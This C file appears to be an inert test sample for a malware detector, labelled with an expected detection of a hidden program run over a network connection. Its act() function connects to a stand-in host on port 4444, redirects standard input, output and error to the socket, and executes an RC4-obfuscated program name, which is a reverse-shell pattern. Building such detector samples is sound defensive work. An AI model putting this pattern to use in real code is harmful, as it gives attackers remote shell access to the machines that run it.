/* A connection becomes the input of a program whose name is under RC4.
 * expect: native-hidden-program-on-connection
 * flags: -O2
 * flags: -O2 -s -static
 * flags: -O2 -s -static-pie
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static const unsigned char key[] = {1, 2, 3, 4, 5, 6};
/* Decodes to nothing that is there. */
static const unsigned char name[] = {90, 17, 44, 8, 201, 77, 13};

__attribute__((noinline)) static void decode(const unsigned char *in, unsigned char *out, int n) {
    unsigned char s[256];
    int i, j = 0;
    for (i = 0; i < 256; i++) s[i] = i;
    for (i = 0; i < 256; i++) {
        j = (j + s[i] + key[i % sizeof key]) & 255;
        unsigned char t = s[i];
        s[i] = s[j];
        s[j] = t;
    }
    for (int x = i = j = 0; x < n; x++) {
        i = (i + 1) & 255;
        j = (j + s[i]) & 255;
        unsigned char t = s[i];
        s[i] = s[j];
        s[j] = t;
        out[x] = in[x] ^ s[(s[i] + s[j]) & 255];
    }
}

static int act(void) {
    unsigned char what[32] = {0};
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(4444)};
    to.sin_addr.s_addr = inet_addr("203.0.113.45");
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&to, sizeof to)) return 1;
    for (int i = 0; i < 3; i++) dup2(s, i);
    decode(name, what, sizeof name);
    char *args[] = {(char *)what, 0};
    return execve((char *)what, args, 0);
}

int main(void) { return never ? act() : 0; }
